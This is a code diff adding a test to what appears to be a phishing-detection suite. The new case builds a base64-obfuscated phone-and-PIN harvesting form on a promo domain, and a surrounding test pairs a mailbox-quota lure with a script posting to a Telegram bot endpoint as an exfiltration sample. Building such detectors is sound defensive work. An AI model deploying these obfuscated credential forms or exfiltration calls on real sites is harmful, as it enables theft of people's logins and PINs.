@@ -326,6 +326,15 @@ describe('analysis: signal rules', () => {
       assert.equal(encoded.result.verdict, 'malicious');
     });
 
+    it('credential fields written from an encoded literal, on a page that names nobody, are a kit trait; a named site\'s own sign-in built the same way is not judged by it', () => {
+      const form = (name: string): string => `<title>${name}</title><h1>${name}</h1><form method="post" action="claim.php"><input name="phone" placeholder="Nomor HP"><input type="password" name="pin" placeholder="PIN (6 digit)"><button>Klaim</button></form><footer>© 2026 ${name}</footer>`;
+      const hidden = (name: string): string => `<script>document.write(atob("${Buffer.from(form(name)).toString('base64')}"))</script>`;
+      const kitPage = kit('https://promo-77.example/klaim/', hidden('Saldo Kaget'));
+      assert.ok(has(kitPage.signals, 'encoded-credential-form') && has(kitPage.signals, 'obfuscated-script'), JSON.stringify(kitPage.signals.map((x) => x.id)));
+      assert.ok(kitPage.result.decidedBy?.includes('combo:kit-traits-credentials'), JSON.stringify(kitPage.result.decidedBy));
+      assert.equal(kit('https://app.orbitnotes.example/login', hidden('Orbitnotes')).result.verdict, 'clean');
+    });
+
     it('lures and exfiltration endpoints', () => {
       const { signals, result } = kit('https://m.example/', `<p>Your mailbox has exceeded its storage limit.</p><form id="f"><input name="e"><input type="password" name="p"></form><script>fetch("https://api.telegram.org/bot123:AAx/sendMessage",{method:"POST"})</script>`);
       assert.ok(has(signals, 'lure-text') && has(signals, 'exfil-endpoint'));
